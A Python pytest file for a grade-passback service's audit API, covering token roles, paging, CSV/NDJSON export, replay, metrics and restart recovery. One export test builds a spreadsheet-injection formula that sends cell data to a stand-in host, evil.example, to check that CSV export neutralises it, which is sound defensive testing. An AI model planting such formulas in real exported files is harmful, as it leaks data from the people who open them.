"""The audit API, tokens and access rules, the CLI, and resuming after a restart — over HTTP."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from canvas_events import sample, variant
from prometheus_client.parser import text_string_to_metric_families
from running_gpb import ADMIN_TOKEN, Gpb, auth, gpb_settings, grade, sandboxed_gpb, start

from gpb.bootstrap import create_app
from gpb.cli import main as gpb_cli
from gpb.handlers.envelope import parse_event
from gpb.infra.sandbox.server import serve_on_loopback as serve
from gpb.infra.store.store import SqlStore

pytestmark = pytest.mark.asyncio(loop_scope="module")


def in_course(name: str, course: str, tag: str) -> dict[str, Any]:
    event = variant(sample(name), test_tag=tag)
    event["metadata"]["context_id"] = f"1000000000{course:0>4}"
    return event


async def cli(
    gpb: Gpb, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *argv: str
) -> tuple[int, str]:
    monkeypatch.setenv("GPB_DATABASE_URL", gpb.settings.database_url)
    code = await asyncio.to_thread(gpb_cli, list(argv))
    return code, capsys.readouterr().out


async def post_all(gpb: Gpb, events: list[dict[str, Any]]) -> list[str]:
    ids = []
    for event in events:
        response = await gpb.post_event(gpb.sign(event))
        assert response.status_code == 202, response.text
        ids.append(response.json()["id"])
    for event_id in ids:
        await gpb.handled(event_id)
    return ids


async def test_tokens_from_the_cli_and_the_access_rules(
    gpb: Gpb, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    await post_all(
        gpb,
        [
            in_course("assignment_created", "456", "t1"),
            in_course("assignment_created", "457", "t2"),
        ],
    )
    code, out = await cli(
        gpb,
        monkeypatch,
        capsys,
        "token",
        "create",
        "--role",
        "instructor",
        "--course",
        "10000000000456",
        "--name",
        "Ms. Rivera",
    )
    assert code == 0
    teacher = out.strip()
    code, out = await cli(
        gpb, monkeypatch, capsys, "token", "create", "--role", "admin", "--expires", "30"
    )
    admin = out.strip()

    no_token = await gpb.client.get("/api/courses")
    assert (no_token.status_code, no_token.json()["error"]["code"]) == (401, "UNAUTHENTICATED")
    unknown = await gpb.client.get("/api/courses", headers=auth("gpb_not-a-real-token"))
    assert unknown.status_code == 401

    mine = await gpb.client.get("/api/courses", headers=auth(teacher))
    assert [c["id"] for c in mine.json()["courses"]] == ["456"]
    everything = await gpb.client.get("/api/courses", headers=auth(admin))
    assert {"456", "457"} <= {c["id"] for c in everything.json()["courses"]}

    forbidden = await gpb.client.get("/api/events", headers=auth(teacher))
    assert (forbidden.status_code, forbidden.json()["error"]["code"]) == (403, "FORBIDDEN")
    assert (await gpb.client.get("/api/events", headers=auth(admin))).status_code == 200

    code, out = await cli(gpb, monkeypatch, capsys, "token", "list")
    assert teacher[:12] in out and teacher not in out  # only prefixes are shown
    code, _ = await cli(gpb, monkeypatch, capsys, "token", "revoke", teacher[:12])
    assert code == 0
    assert (await gpb.client.get("/api/courses", headers=auth(teacher))).status_code == 401


async def test_an_expired_token_is_refused(gpb: Gpb) -> None:
    from datetime import UTC, datetime, timedelta

    from gpb.handlers.tokens import Role, new_token

    store = SqlStore(gpb.settings.database_url)
    store.start()
    token = new_token()
    try:
        await store.tokens.add(
            token, Role.ADMIN, (), "old", datetime.now(UTC) - timedelta(seconds=1)
        )
    finally:
        await store.close()
    assert (await gpb.client.get("/api/events", headers=auth(token))).status_code == 401


async def test_search_filters_and_cursor_paging(gpb: Gpb) -> None:
    ids = await post_all(
        gpb, [in_course("grade_change_8_to_9_5", "900", f"page{i}") for i in range(5)]
    )
    first = (await gpb.admin_get("/api/events", course_id="10000000000900", limit=2)).json()
    assert [e["id"] for e in first["events"]] == ids[::-1][:2]
    second = (
        await gpb.admin_get("/api/events", course_id="900", limit=2, cursor=first["next_cursor"])
    ).json()
    third = (
        await gpb.admin_get("/api/events", course_id="900", limit=2, cursor=second["next_cursor"])
    ).json()
    assert [e["id"] for e in second["events"] + third["events"]] == ids[::-1][2:]
    assert third["next_cursor"] is None
    one = first["events"][0]
    assert set(one) >= {
        "id",
        "received_at",
        "event_name",
        "event_time",
        "course_id",
        "user_id",
        "status",
        "error",
        "attempts",
    }

    named = (await gpb.admin_get("/api/events", event_name="grade_change", course_id="900")).json()[
        "events"
    ]
    assert len(named) == 5
    since = first["events"][-1]["received_at"]
    recent = (await gpb.admin_get("/api/events", course_id="900", since=since)).json()["events"]
    assert [e["id"] for e in recent] == ids[::-1][:2]
    assert (await gpb.admin_get("/api/events", course_id="900", until=since)).json()["events"][0][
        "id"
    ] == ids[2]


@pytest.mark.parametrize(
    "params",
    [
        {"status": "bogus"},
        {"limit": "0"},
        {"limit": "100000"},
        {"since": "yesterday"},
        {"cursor": "abc"},
        {"course_id": "x"},
    ],
)
async def test_bad_queries_are_400(gpb: Gpb, params: dict[str, str]) -> None:
    response = await gpb.admin_get("/api/events", **params)
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "INVALID_QUERY"


async def test_unknown_event_id_is_404(gpb: Gpb) -> None:
    for path in ("/api/events/999999", "/api/events/abc"):
        response = await gpb.admin_get(path)
        assert (response.status_code, response.json()["error"]["code"]) == (404, "NOT_FOUND")


async def test_export_streams_ndjson_and_csv(
    gpb: Gpb, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = await post_all(gpb, [in_course("submission_created", "901", f"exp{i}") for i in range(3)])
    ndjson = await gpb.admin_get("/api/events/export", course_id="901", format="ndjson")
    assert ndjson.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in ndjson.text.splitlines()]
    assert [line["id"] for line in lines] == ids[::-1]
    assert lines[0]["payload"]["metadata"]["event_name"] == "submission_created"

    exported_csv = await gpb.admin_get("/api/events/export", course_id="901", format="csv")
    rows = list(csv.DictReader(io.StringIO(exported_csv.text)))
    assert [row["id"] for row in rows] == ids[::-1]
    assert rows[0]["status"] == "processed"

    code, out = await cli(
        gpb, monkeypatch, capsys, "events", "export", "--course", "901", "--format", "csv"
    )
    assert code == 0 and [row["id"] for row in csv.DictReader(io.StringIO(out))] == ids[::-1]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_csv_export_neutralises_formulas_and_ndjson_has_a_file_name(
    gpb: Gpb, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], start: str
) -> None:
    course = str(910 + "=+-@\t\r".index(start))
    formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"open")'
    event = in_course("submission_created", course, "formula")
    event["metadata"]["event_name"] = formula  # an unknown event name: stored and ignored
    await post_all(gpb, [event])
    exported = await gpb.admin_get("/api/events/export", course_id=course, format="csv")
    (row,) = csv.DictReader(io.StringIO(exported.text))
    assert row["event_name"] == "'" + formula
    code, out = await cli(
        gpb, monkeypatch, capsys, "events", "export", "--course", course, "--format", "csv"
    )
    assert code == 0
    assert next(csv.DictReader(io.StringIO(out)))["event_name"] == "'" + formula
    ndjson = await gpb.admin_get("/api/events/export", course_id=course, format="ndjson")
    assert ndjson.headers["content-disposition"] == 'attachment; filename="gpb-events.ndjson"'
    assert json.loads(ndjson.text)["event_name"] == formula  # data, not a spreadsheet: as sent


async def test_replay_through_the_api_and_the_cli(
    gpb: Gpb, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (event_id,) = await post_all(gpb, [in_course("assignment_created", "902", "replay")])
    replayed = await gpb.client.post(f"/api/events/{event_id}/replay", headers=auth(ADMIN_TOKEN))
    assert replayed.status_code == 202
    assert (await gpb.handled(event_id))["status"] == "processed"

    code, out = await cli(gpb, monkeypatch, capsys, "events", "replay", event_id)
    assert code == 0 and "queued" in out
    assert (await gpb.handled(event_id))["status"] == "processed"

    rejected = await gpb.post_event(b"junk")
    rejected_id = (await gpb.admin_get("/api/events", status="rejected", limit=1)).json()["events"][
        0
    ]["id"]
    assert rejected.status_code == 400
    refused = await gpb.client.post(f"/api/events/{rejected_id}/replay", headers=auth(ADMIN_TOKEN))
    assert (refused.status_code, refused.json()["error"]["code"]) == (409, "NOT_REPLAYABLE")


async def test_health_and_metrics(gpb: Gpb) -> None:
    assert (await gpb.client.get("/healthz")).json() == {"status": "ok"}
    metrics = (await gpb.client.get("/metrics")).text
    assert 'gpb_events_received_total{outcome="accepted"}' in metrics
    assert "gpb_handler_lag_seconds" in metrics
    assert 'gpb_sync_runs{status="succeeded"} 0.0' in metrics  # no run yet: 0, not absent


def metric_values(text: str) -> dict[tuple[str, str], float]:
    """/metrics as {(sample name, its status label): value}."""
    return {
        (sample.name, sample.labels.get("status", "")): sample.value
        for family in text_string_to_metric_families(text)
        for sample in family.samples
    }


async def test_metrics_count_sync_runs_and_calls_to_ic(tmp_path: Path) -> None:
    async with sandboxed_gpb(tmp_path) as env:
        await env.handled(await env.post("assignment_created", assignment_id="10000000000124"))
        await grade(env, "124", "1201", 9.5, "2026-11-02T10:00:00.000Z")
        before = metric_values((await env.client.get("/metrics")).text)
        run = await start(env, kind="sync", assignment_ids=["124"])
        assert run["status"] == "succeeded", run["errors"]
        after = metric_values((await env.client.get("/metrics")).text)
    runs = {status: value for (name, status), value in after.items() if name == "gpb_sync_runs"}
    assert runs == {
        "queued": 0,
        "running": 0,
        "succeeded": 1,
        "partial": 0,
        "failed": 0,
        "interrupted": 0,
    }
    calls = ("gpb_sis_calls_total", "2xx")
    assert after[calls] - before.get(calls, 0) >= 2  # at least the line item and the result


async def test_events_stored_before_a_stop_are_handled_after_the_restart(
    tmp_path: Path, jwks_url: str
) -> None:
    settings = gpb_settings(tmp_path, jwks_url)
    store = SqlStore(settings.database_url)
    store.migrate()
    store.start()
    try:  # acknowledged, then the process died before its worker got to them
        ids = [
            (
                await store.events.append(
                    parse_event(in_course("grade_change_8_to_9_5", "903", f"r{i}")), None
                )
            ).id
            for i in range(4)
        ]
    finally:
        await store.close()
    async with serve(create_app(settings)) as url, httpx.AsyncClient(base_url=url) as client:
        restarted = Gpb(url, None, settings, client)  # type: ignore[arg-type]
        for event_id in ids:
            assert (await restarted.handled(event_id))["status"] == "processed"
        courses = (await client.get("/api/courses", headers=auth(ADMIN_TOKEN))).json()["courses"]
    assert "903" in {c["id"] for c in courses}
